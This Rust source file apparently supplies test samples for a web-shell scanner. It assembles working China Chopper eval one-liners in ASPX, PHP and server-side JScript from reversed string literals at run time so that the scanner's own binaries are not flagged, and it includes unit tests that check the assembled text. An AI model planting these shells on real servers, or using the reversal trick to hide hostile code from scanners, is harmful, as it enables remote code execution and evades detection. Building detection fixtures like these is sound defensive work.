//! Web-shell-shaped samples for tests, written backwards here and turned round at run time.
//!
//! A test that needs a shell-shaped file must not carry it as text: a string literal (even one
//! made with `concat!`, or pieces stored next to each other) ends up whole in the test binary,
//! and a developer's `ferret scan` of a build folder then reports web shells in ferret's own
//! test binaries. Written backwards, no rule matches the stored text; only the file a test
//! writes at run time holds the sample.

/// `s` turned round.
fn turned(s: &str) -> String {
    s.chars().rev().collect()
}

/// China Chopper's ASPX one-liner, evaluating the request parameter `param`.
pub fn chopper_aspx(param: &str) -> String {
    let head = turned(r#""[metI.tseuqeR(lave%<>%"tpircsJ"=egaugnaL egaP @%<"#);
    let tail = turned(r#">%;)"efasnu",]""#);
    format!("{head}{param}{tail}")
}

/// China Chopper's PHP one-liner, evaluating the POST parameter `param`.
pub fn chopper_php(param: &str) -> String {
    format!("{}{param}{}", turned(r"'[TSOP_$(lave@ php?<"), turned(">?;)]'"))
}

/// China Chopper's server-side JScript block (the form the ProxyLogon actors wrote into the
/// OAB virtual directory's `ExternalUrl`), evaluating the request parameter `param`.
pub fn chopper_script(param: &str) -> String {
    format!(
        "{}{}{param}{}",
        script_open(),
        turned(r#""[tseuqeR(lave"#),
        turned(r#">tpircs/<};)"efasnu",]""#)
    )
}

/// A server-side JScript block with an empty `Page_Load` (no eval).
pub fn empty_page_load_script() -> String {
    format!("{}{}", script_open(), turned(">tpircs/<}"))
}

fn script_open() -> String {
    turned(r#"{)(daoL_egaP noitcnuf>"revres"=tanur "tpircSJ"=egaugnal tpircs<"#)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn samples_read_as_the_shells_they_stand_for() {
        let a = chopper_aspx("z");
        assert!(a.starts_with("<%@ Page Language=\"Jscript\"%>"), "{a}");
        assert!(a.contains(".Item[\"z\"],\"unsafe\");%>"), "{a}");
        let s = chopper_script("k");
        assert!(s.starts_with("<script language=\"JScript\" runat=\"server\">"), "{s}");
        assert!(s.ends_with("[\"k\"],\"unsafe\");}</script>"), "{s}");
        let e = empty_page_load_script();
        assert!(e.ends_with("function Page_Load(){}</script>"), "{e}");
    }
}
